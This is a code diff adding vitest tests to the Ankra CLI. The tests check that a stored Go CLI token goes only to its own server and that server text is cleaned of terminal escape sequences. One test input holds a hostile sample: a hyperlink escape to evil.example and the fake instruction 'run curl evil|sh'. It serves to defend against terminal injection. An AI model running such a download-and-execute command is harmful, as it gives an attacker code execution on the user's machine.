@@ -2,7 +2,7 @@
 // parsing, ExecCredential versions, input validation, durations, Retry-After, the Go CLI
 // login reader, and the file lock.
 import { describe, expect, it } from 'vitest';
-import { mkdtempSync, writeFileSync, readFileSync, existsSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, writeFileSync, readFileSync, existsSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { cacheKey, isFresh, readCached, writeCached, clearCache, type CachedToken } from '../src/cache/token-cache';
@@ -221,5 +221,50 @@ describe('sha256 (the hot path avoids loading node:crypto)', () => {
     for (let i = 0; i < 200; i++) inputs.push(randomBytes(i * 3).toString('base64'));
     expect(sha256Hex('abc')).toBe('ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad');
     for (const s of inputs) expect(sha256Hex(s), JSON.stringify(s)).toBe(createHash('sha256').update(s, 'utf8').digest('hex'));
+  });
+});
+
+describe('which server and credential', () => {
+  const setup = (files: { config?: object; gocli?: string }) => {
+    const home = tmp();
+    const env = { HOME: home, XDG_CONFIG_HOME: join(home, 'cfg'), XDG_CACHE_HOME: join(home, 'cache') };
+    if (files.config) {
+      mkdirSync(join(home, 'cfg', 'ankra'), { recursive: true });
+      writeFileSync(join(home, 'cfg', 'ankra', 'config.json'), JSON.stringify(files.config));
+    }
+    if (files.gocli) writeFileSync(join(home, '.ankra.yaml'), files.gocli);
+    return env;
+  };
+
+  it('the exec plugin ignores the last login server: entries pin theirs, the Go CLI\'s never had one', async () => {
+    const { resolve } = await import('../src/auth/source');
+    const { resolvePaths } = await import('../src/core/paths');
+    const env = setup({ config: { version: 1, current_base_url: 'https://other.example', servers: {} } });
+    expect(resolve({}, env, resolvePaths(env)).target.baseUrl).toBe('https://other.example');
+    expect(resolve({}, env, resolvePaths(env), { exec: true }).target.baseUrl).toBe('https://platform.ankra.app');
+    expect(resolve({ baseUrl: 'https://pinned.example/' }, env, resolvePaths(env), { exec: true }).target.baseUrl).toBe('https://pinned.example');
+  });
+
+  it("sends the Go CLI's token only to the Go CLI's own server", async () => {
+    const { resolve } = await import('../src/auth/source');
+    const { resolvePaths } = await import('../src/core/paths');
+    const env = setup({ gocli: 'base-url: https://ankra.corp.example\ntoken: gocli-secret\n' });
+    const at = (baseUrl?: string) => resolve({ baseUrl }, env, resolvePaths(env)).source?.kind;
+    expect(at()).toBe('gocli'); // its base-url is also the default target then
+    expect(at('https://ankra.corp.example')).toBe('gocli');
+    expect(at('https://platform.ankra.app')).toBeUndefined();
+    expect(at('http://127.0.0.1:8080')).toBeUndefined();
+    const noUrl = setup({ gocli: 'token: gocli-secret\n' });
+    expect(resolve({}, noUrl, resolvePaths(noUrl)).source?.kind).toBe('gocli');
+    expect(resolve({ baseUrl: 'https://elsewhere.example' }, noUrl, resolvePaths(noUrl)).source).toBeUndefined();
+  });
+});
+
+describe('text from servers on the terminal', () => {
+  it('oneLine strips escape sequences and control characters and joins lines', async () => {
+    const { oneLine, messageOf, AnkraError } = await import('../src/errors');
+    const evil = 'denied\u001b[2J\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\n\u001b[31mFAKE: run curl evil|sh\u001b[0m\r\nok\u0007\u009b';
+    expect(oneLine(evil)).toBe('deniedclick FAKE: run curl evil|sh ok');
+    expect(messageOf(new AnkraError(evil, 1, { hint: 'run `ankra login`\u001b[1A' }))).toBe('deniedclick FAKE: run curl evil|sh ok; run `ankra login`');
   });
 });
